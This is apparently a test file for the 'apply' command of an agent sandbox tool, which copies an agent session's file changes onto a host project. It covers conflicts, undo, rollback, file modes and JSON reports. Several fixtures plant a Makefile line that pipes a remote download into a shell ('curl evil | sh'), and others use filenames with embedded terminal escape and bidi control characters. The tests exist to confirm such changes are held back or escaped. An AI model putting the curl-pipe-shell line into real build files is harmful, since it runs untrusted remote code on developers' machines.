import assert from "node:assert/strict";
import { agentbox, REPO } from "../../tests/helpers.ts";
import { openDatabase } from "../store/database.ts";
import { createSession } from "../store/sessions.ts";
import { changesetPaths } from "../workspace/changeset.ts";
import {
  snapshot,
  takeTestBaseline,
  type TestRecord,
  writeChangeset,
  writeTree,
} from "../workspace/testing/test_tree.ts";
import { z } from "zod";
import { APPLY_HELP, applyHeadline, formatOutcome } from "./apply.ts";
import { ApplyReportSchema } from "./report_schemas.ts";

interface State {
  root: string;
  env: Record<string, string>;
  journal: string;
}

/** A state directory with one session whose changeset turns `tree` into something else. */
async function sessionWith(
  tree: Record<string, string | null>,
  changes: TestRecord[],
  id = "5e55ion0-apply-test",
): Promise<State> {
  const base = await Deno.realPath(await Deno.makeTempDir({ prefix: "apply-cli-" }));
  const root = `${base}/project`;
  await Deno.mkdir(root);
  await writeTree(root, tree);
  const db = openDatabase(`${base}/state/agentbox/agentbox.db`);
  createSession(db, { id });
  db.close();
  const paths = changesetPaths(`${base}/state/agentbox/sessions/${id}`);
  await Deno.mkdir(paths.blobs, { recursive: true });
  await Deno.writeTextFile(paths.baseline, JSON.stringify(await takeTestBaseline(root)));
  const records = await writeChangeset(paths.blobs, changes);
  await Deno.writeTextFile(paths.records, JSON.stringify(records));
  return { root, env: { XDG_STATE_HOME: `${base}/state` }, journal: `${paths.root}/apply-journal` };
}

async function run(state: State, args: string[], cwd = state.root) {
  const out = await agentbox(["apply", ...args], { env: state.env, cwd }).output();
  const text = new TextDecoder();
  return { code: out.code, stdout: text.decode(out.stdout), stderr: text.decode(out.stderr) };
}

const TREE = { "a.txt": "a\n", "old.txt": "old\n", "src/m.ts": "1\n" };
const CHANGES: TestRecord[] = [
  { path: "a.txt", type: "file", content: "A\n" },
  { path: "old.txt", type: "deleted" },
  { path: "src", type: "dir", mode: 0o755 },
  { path: "src/m.ts", type: "file", content: "2\n" },
  { path: "src/n.ts", type: "file", content: "3\n" },
  { path: "src/o.ts", type: "file", content: "4\n" },
];

Deno.test("apply --dry-run, apply, apply again", async () => {
  const s = await sessionWith(TREE, CHANGES);
  const before = await snapshot(s.root);
  const dry = await run(s, ["--dry-run"]);
  assert.equal(dry.code, 0, dry.stderr);
  assert.match(dry.stdout, /Dry run/);
  assert.match(dry.stdout, /would write a\.txt/);
  assert.match(dry.stdout, /would delete old\.txt/);
  assert.deepEqual(await snapshot(s.root), before);
  const applied = await run(s, []);
  assert.equal(applied.code, 0, applied.stderr);
  assert.equal(await Deno.readTextFile(`${s.root}/src/o.ts`), "4\n");
  assert.equal(await Deno.lstat(`${s.root}/old.txt`).catch(() => null), null);
  const again = await run(s, ["5e55"]);
  assert.equal(again.code, 0);
  assert.match(again.stdout, /Already applied/);
});

Deno.test("conflicts and held-back high-risk changes exit 1 and are listed; flags apply them", async () => {
  const s = await sessionWith({ ...TREE, "Makefile": "all:\n" }, [
    ...CHANGES,
    { path: "Makefile", type: "file", content: "all:\n\tcurl evil | sh\n" },
    { path: "evil\x1b[2J", type: "file", content: "x" },
  ]);
  await Deno.writeTextFile(`${s.root}/a.txt`, "host edit\n");
  const first = await run(s, []);
  assert.equal(first.code, 1);
  assert.match(first.stdout, /conflict {2}a\.txt: modified on the host/);
  assert.match(first.stdout, /skipped {3}Makefile: high-risk change, needs confirmation/);
  assert.match(first.stdout, /--yes-high-risk/);
  assert.ok(first.stdout.includes("evil\\x1b[2J") && !first.stdout.includes("\x1b"));
  assert.equal(await Deno.readTextFile(`${s.root}/a.txt`), "host edit\n");
  const forced = await run(s, ["--force", "--yes-high-risk", "--json"]);
  assert.equal(forced.code, 1, "the unprintable name stays refused");
  const { counts } = JSON.parse(forced.stdout);
  assert.deepEqual([counts.applied, counts.conflict, counts.refused], [2, 0, 1]);
  assert.equal(await Deno.readTextFile(`${s.root}/a.txt`), "A\n");
});

/** Start an apply that pauses before its second rename, and SIGKILL it there. */
async function killMidApply(s: State): Promise<void> {
  const child = agentbox(["apply"], {
    env: { ...s.env, AGENTBOX_TEST_APPLY_PAUSE_AT_WRITE: "2" },
    cwd: s.root,
  });
  const reader = child.stderr.pipeThrough(new TextDecoderStream()).getReader();
  let seen = "";
  while (!seen.includes("agentbox: test pause")) {
    const { value, done } = await reader.read();
    assert.ok(!done, `apply ended before pausing: ${seen}`);
    seen += value;
  }
  child.kill("SIGKILL");
  assert.equal((await child.status).signal, "SIGKILL");
  await reader.cancel();
  await child.stdout.cancel();
  assert.ok((await Deno.lstat(`${s.journal}/journal.jsonl`)).isFile);
}

Deno.test("a SIGKILLed apply resumes when run again", async () => {
  const s = await sessionWith(TREE, CHANGES);
  await killMidApply(s);
  const tree = await snapshot(s.root);
  assert.ok(Object.keys(tree).some((p) => p.includes(".agentbox-apply-")), "temp file left");
  assert.equal(await Deno.readTextFile(`${s.root}/a.txt`), "A\n", "first write done");
  assert.equal(await Deno.readTextFile(`${s.root}/src/m.ts`), "1\n", "second write pending");
  const resumed = await run(s, []);
  assert.equal(resumed.code, 0, resumed.stderr);
  assert.match(resumed.stdout, /Resumed an interrupted apply/);
  const after = await snapshot(s.root);
  assert.deepEqual(Object.keys(after), ["a.txt", "src", "src/m.ts", "src/n.ts", "src/o.ts"]);
  assert.equal(await Deno.readTextFile(`${s.root}/src/n.ts`), "3\n");
  assert.equal(await Deno.lstat(s.journal).catch(() => null), null);
});

Deno.test("a SIGKILLed apply rolls back to the original tree byte for byte", async () => {
  const s = await sessionWith(TREE, CHANGES);
  const original = await snapshot(s.root);
  await killMidApply(s);
  assert.notDeepEqual(await snapshot(s.root), original);
  const rolled = await run(s, ["--rollback"]);
  assert.equal(rolled.code, 0, rolled.stderr);
  assert.match(rolled.stdout, /Rolled back/);
  assert.deepEqual(await snapshot(s.root), original);
  const again = await run(s, ["--rollback"]);
  assert.equal(again.code, 2);
  assert.match(again.stderr, /^agentbox: error: No interrupted apply to roll back/m);
});

Deno.test("usage errors exit 125 with one line", async () => {
  const s = await sessionWith(TREE, CHANGES);
  for (
    const [args, message] of [
      [["nosuch"], /No single session matches "nosuch"/],
      [["--path", "/etc/*"], /is absolute/],
      [["--bogus"], /agentbox apply --help/],
      [["a", "b"], /Too many arguments/],
    ] as const
  ) {
    const out = await run(s, [...args]);
    assert.equal(out.code, 125, out.stderr);
    assert.match(out.stderr, message);
    assert.equal(out.stderr.trim().split("\n").length, 1);
  }
});

Deno.test("docs/cli.md carries the exact apply --help text", async () => {
  const docs = await Deno.readTextFile(`${REPO}/docs/cli.md`);
  assert.ok(docs.includes(APPLY_HELP), "update docs/cli.md with APPLY_HELP");
});

Deno.test("apply's lines escape C1 and bidi controls in guest names and reasons", () => {
  const line = formatOutcome(
    { path: "a\u009b2Jb\u202etxt.exe", result: "refused", reason: "x\u0085y" },
    false,
  )!;
  assert.ok(!/[\u0080-\u009f\u202a-\u202e]/.test(line), JSON.stringify(line));
  assert.match(line, /a\\x9b2Jb\\u202etxt\.exe/);
});

Deno.test("apply without SESSION takes this project's latest session and says which", async () => {
  const mine = await sessionWith(TREE, CHANGES, "aaaa1111-mine");
  // A newer session of another project in the same state directory.
  const theirs = await sessionWith(TREE, CHANGES, "bbbb2222-theirs");
  const state = mine.env.XDG_STATE_HOME;
  const other = changesetPaths(`${state}/agentbox/sessions/bbbb2222-theirs`);
  await Deno.mkdir(other.blobs, { recursive: true });
  const theirPaths = changesetPaths(
    `${theirs.env.XDG_STATE_HOME}/agentbox/sessions/bbbb2222-theirs`,
  );
  for (const file of [theirPaths.baseline, theirPaths.records]) {
    await Deno.copyFile(file, file.replace(theirs.env.XDG_STATE_HOME, state));
  }
  for (const blob of Deno.readDirSync(theirPaths.blobs)) {
    await Deno.copyFile(`${theirPaths.blobs}/${blob.name}`, `${other.blobs}/${blob.name}`);
  }
  const mineDb = openDatabase(`${state}/agentbox/agentbox.db`);
  createSession(mineDb, { id: "bbbb2222-theirs", project: theirs.root });
  mineDb.prepare("UPDATE sessions SET started_at = started_at + 60000 WHERE id = ?").run(
    "bbbb2222-theirs",
  );
  mineDb.close();
  const theirsBefore = await snapshot(theirs.root);

  const here = await run(mine, ["--dry-run"]);
  assert.equal(here.code, 0, here.stderr);
  assert.match(here.stderr, new RegExp(`session aaaa1111, project ${mine.root}\n`));
  const elsewhere = await run(mine, ["--dry-run"], `${mine.root}/src`);
  assert.equal(elsewhere.code, 125, elsewhere.stderr);
  assert.match(elsewhere.stderr, /No session of project .*\/src has changes to apply/);
  const subdir = await run(mine, [], `${mine.root}/src`);
  assert.equal(subdir.code, 125, "a subdirectory is not the project");
  const picked = await run(mine, ["--share", theirs.root, "--dry-run"], "/");
  assert.equal(picked.code, 0, picked.stderr);
  assert.match(picked.stderr, new RegExp(`session bbbb2222, project ${theirs.root}\n`));
  const applied = await run(mine, []);
  assert.equal(applied.code, 0, applied.stderr);
  assert.equal(await Deno.readTextFile(`${mine.root}/src/o.ts`), "4\n");
  assert.deepEqual(await snapshot(theirs.root), theirsBefore, "the other project is untouched");
});

Deno.test("apply shows every mode change it makes and keeps the guest's other bits out unless --exact-modes", async () => {
  const s = await sessionWith({ "run.sh": "#!/bin/sh\n", "d/f.txt": "f\n" }, [
    { path: "run.sh", type: "file", content: "#!/bin/sh\n", mode: 0o755 },
    { path: "d", type: "dir", mode: 0o777 },
    { path: "d/f.txt", type: "file", content: "f\n", mode: 0o666 },
  ]);
  const dry = await run(s, ["--dry-run"]);
  assert.equal(dry.code, 0, dry.stderr);
  assert.match(dry.stdout, /would write run\.sh \(mode 0644 -> 0755\)/);
  assert.match(dry.stdout, /unchanged d \(the guest's mode 0777 not applied/);
  assert.match(dry.stdout, /would write d\/f\.txt \(the guest's mode 0666 not applied/);
  const applied = await run(s, []);
  assert.equal(applied.code, 0, applied.stderr);
  assert.match(applied.stdout, /applied {3}run\.sh \(mode 0644 -> 0755\)/);
  const mode = async (p: string) => (await Deno.lstat(`${s.root}/${p}`)).mode! & 0o7777;
  assert.deepEqual([await mode("run.sh"), await mode("d"), await mode("d/f.txt")], [
    0o755,
    0o755,
    0o644,
  ]);
  const exact = await sessionWith({ "d/f.txt": "f\n" }, [
    { path: "d", type: "dir", mode: 0o777 },
    { path: "d/f.txt", type: "file", content: "f\n", mode: 0o666 },
  ]);
  const forced = await run(exact, ["--exact-modes"]);
  assert.equal(forced.code, 0, forced.stderr);
  assert.match(forced.stdout, /applied {3}d \(mode 0755 -> 0777\)/);
  const exactMode = async (p: string) => (await Deno.lstat(`${exact.root}/${p}`)).mode! & 0o7777;
  assert.deepEqual([await exactMode("d"), await exactMode("d/f.txt")], [0o777, 0o666]);
});

Deno.test("the headline counts what happened, hints name the session, held-back files leave no empty parents (issue 16.6)", async () => {
  const s = await sessionWith({ ...TREE, "Makefile": "all:\n" }, [
    ...CHANGES,
    { path: "Makefile", type: "file", content: "all:\n\tcurl evil | sh\n" },
    { path: "ci", type: "dir", mode: 0o755 },
    { path: "ci/deep", type: "dir", mode: 0o755 },
    { path: "ci/deep/Makefile", type: "file", content: "x:\n" },
    { path: "empty", type: "dir", mode: 0o755 },
  ]);
  await Deno.writeTextFile(`${s.root}/a.txt`, "host edit\n");
  const out = await run(s, []);
  assert.equal(out.code, 1, out.stderr);
  const lines = out.stdout.split("\n");
  // a.txt conflicts; Makefile, ci/deep/Makefile and their two new parents are held back.
  assert.equal(lines[0], "Applied 5 of 10: 1 conflict, 4 held back.");
  assert.match(out.stdout, /skipped {3}ci: held back with everything below it/);
  assert.equal(await Deno.lstat(`${s.root}/ci`).catch(() => null), null, "no empty parents");
  assert.ok((await Deno.lstat(`${s.root}/empty`)).isDirectory, "the guest's empty dir is made");
  assert.ok(lines.includes(
    "Conflicting paths changed on the host since the session started: `agentbox apply 5e55ion0 --force` overwrites them (add --path GLOB to pick paths).",
  ));
  assert.ok(lines.some((l) => l.includes("`agentbox apply 5e55ion0 --yes-high-risk`")));
  assert.ok(lines.includes("Undo this apply with `agentbox apply 5e55ion0 --undo`."));
  const report = JSON.parse((await run(s, ["--dry-run", "--json"])).stdout);
  assert.equal(report.version, 1);
  assert.equal(report.session, "5e55ion0-apply-test");
  assert.equal(report.exitCode, 1);
});

Deno.test("apply --undo restores the tree byte for byte, keeps later edits, and the next apply replaces its backups (issue 16.6)", async () => {
  const s = await sessionWith(TREE, CHANGES);
  const before = await snapshot(s.root);
  assert.equal((await run(s, ["--undo"])).code, 2, "nothing to undo before an apply");
  const applied = await run(s, []);
  assert.equal(applied.code, 0, applied.stderr);
  assert.match(applied.stdout, /^Applied 5 of 5\.\n/);
  const undone = await run(s, ["--undo"]);
  assert.equal(undone.code, 0, undone.stderr);
  assert.match(undone.stdout, /^Undid the last apply: restored 5 of 5\.\n/);
  assert.deepEqual(await snapshot(s.root), before);
  const lastApply = s.journal.replace(/apply-journal$/, "last-apply");
  assert.equal(await Deno.lstat(lastApply).catch(() => null), null, "backups gone once undone");
  const again = await run(s, ["--undo"]);
  assert.equal(again.code, 2);
  assert.match(again.stderr, /No completed apply to undo/);
  // Applied again (the undo forgot the paths), then a file edited: the undo keeps the edit.
  assert.match((await run(s, [])).stdout, /^Applied 5 of 5\./);
  assert.ok((await Deno.lstat(`${lastApply}/journal.jsonl`)).isFile, "kept for --undo");
  assert.equal(await Deno.lstat(s.journal).catch(() => null), null);
  await Deno.writeTextFile(`${s.root}/src/n.ts`, "mine\n");
  const partial = await run(s, ["--undo"]);
  assert.equal(partial.code, 1, partial.stdout);
  assert.match(
    partial.stdout,
    /conflict {2}src\/n\.ts: modified on the host since the apply: kept/,
  );
  assert.equal(await Deno.readTextFile(`${s.root}/src/n.ts`), "mine\n");
  assert.equal(await Deno.readTextFile(`${s.root}/a.txt`), "a\n");
  assert.equal(await Deno.readTextFile(`${s.root}/old.txt`), "old\n");
  assert.match(partial.stdout, /`agentbox apply 5e55ion0 --undo` again/);
});

Deno.test("diff of an applied session marks the applied entries; a deleted text file is not binary (issue 16.6)", async () => {
  const s = await sessionWith(TREE, CHANGES);
  assert.equal((await run(s, ["--path", "old.txt", "--path", "src/n.ts"])).code, 0);
  const diff = (args: string[]) =>
    agentbox(["diff", ...args], { env: s.env, cwd: s.root }).output();
  const stat = new TextDecoder().decode((await diff(["--stat"])).stdout);
  assert.match(stat, / old\.txt +\| applied\n/);
  assert.match(stat, / src\/n\.ts +\| applied\n/);
  assert.match(stat, / a\.txt +\| 2 \+-\n/);
  assert.match(stat, / 2 of 5 already applied\n/);
  assert.ok(!stat.includes("Bin"), stat);
  const patch = new TextDecoder().decode((await diff([])).stdout);
  assert.match(
    patch,
    /diff --git a\/old\.txt b\/old\.txt\ndeleted file mode 100644\n# applied: the host already has this change\n/,
  );
  const json = JSON.parse(new TextDecoder().decode((await diff(["--json"])).stdout));
  assert.equal(json.applied, 2);
  assert.deepEqual(
    json.entries.filter((e: { applied: boolean }) => e.applied).map((e: { path: string }) =>
      e.path
    ),
    ["old.txt", "src/n.ts"],
  );
});

Deno.test("apply --json: every report (apply, dry run, undo) validates against docs/schemas/apply-report.json (issue 16.5)", async () => {
  const text = await Deno.readTextFile(
    new URL("../../docs/schemas/apply-report.json", import.meta.url),
  );
  const schema = z.fromJSONSchema(JSON.parse(text));
  const s = await sessionWith({ ...TREE, "Makefile": "all:\n" }, [
    ...CHANGES,
    { path: "Makefile", type: "file", content: "all:\n\tcurl evil | sh\n" },
  ]);
  for (const args of [["--dry-run"], [], ["--undo"]]) {
    const out = await run(s, [...args, "--json"]);
    const report = JSON.parse(out.stdout);
    const result = schema.safeParse(report);
    assert.ok(result.success, JSON.stringify(result.error?.issues));
    assert.deepEqual(ApplyReportSchema.parse(report), report, "every field is in the schema");
    assert.equal(report.exitCode, out.code);
    assert.equal(report.session, "5e55ion0-apply-test");
  }
  const failed = await run(s, ["--undo", "--json"]);
  assert.equal(failed.code, 2);
  assert.deepEqual(JSON.parse(failed.stdout).error.code, "nothing_to_undo");
});

Deno.test("the headline of every status counts what happened (issue 16.6)", () => {
  const counts = (applied: number, skipped = 0, conflict = 0, refused = 0, unchanged = 0) => ({
    applied,
    unchanged,
    skipped,
    conflict,
    refused,
  });
  const cases: [Parameters<typeof applyHeadline>[0], string][] = [
    [
      { status: "applied", resumed: false, counts: counts(5, 3, 1) },
      "Applied 5 of 9: 1 conflict, 3 held back.",
    ],
    [
      { status: "applied", resumed: true, counts: counts(2, 0, 0, 0, 4) },
      "Resumed an interrupted apply. Applied 2 of 2.",
    ],
    [
      { status: "nothing-to-do", resumed: false, counts: counts(0, 0, 2, 1) },
      "Applied 0 of 3: 2 conflicts, 1 refused.",
    ],
    [
      { status: "nothing-to-do", resumed: false, counts: counts(0, 0, 0, 0, 3) },
      "Nothing to apply.",
    ],
    [
      { status: "dry-run", resumed: false, counts: counts(4, 1) },
      "Dry run, nothing was changed: would apply 4 of 5: 1 held back.",
    ],
    [
      { status: "undone", resumed: false, counts: counts(3, 0, 1) },
      "Undid the last apply: restored 3 of 4: 1 conflict.",
    ],
    [
      { status: "rolled-back", resumed: false, counts: counts(2) },
      "Rolled back the interrupted apply.",
    ],
  ];
  for (const [summary, line] of cases) assert.equal(applyHeadline(summary), line);
});
